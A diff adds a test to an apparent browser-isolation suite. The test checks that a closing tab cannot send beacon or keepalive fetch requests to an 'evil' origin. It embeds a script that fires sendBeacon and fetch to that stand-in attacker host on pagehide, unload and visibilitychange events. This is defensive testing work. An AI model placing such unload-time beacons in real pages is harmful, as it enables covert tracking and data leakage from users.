@@ -85,6 +85,21 @@ async def test_in_the_chrome_of_a_user_nothing_gets_out_of_our_tabs(web: Web, de
     assert f"requests to {web.origin('evil')}" in receipt.text
 
 
+async def test_a_tab_in_the_chrome_of_a_user_closes_without_a_word(web: Web, detached: DetachedChrome) -> None:
+    farewell = f"""<script>
+    for (const last of ["pagehide", "unload", "visibilitychange"]) addEventListener(last, () => {{
+      navigator.sendBeacon("{web.origin("evil")}/" + last);
+      fetch("{web.origin("evil")}/" + last, {{keepalive: true, mode: "no-cors"}}); }});
+    </script>"""
+    async with Browser.connect(detached.endpoint, allow=ALLOWED) as browser:
+        page = await browser.new_page()
+        await page.goto(web.put("good", "/", farewell))
+        await page.close()
+        await (await browser.new_page()).goto(web.origin("other"))
+
+    assert web.paths("evil") == []
+
+
 async def test_the_tabs_of_a_user_load_what_they_like(web: Web, detached: DetachedChrome) -> None:
     async with (
         Browser.connect(detached.endpoint) as theirs,
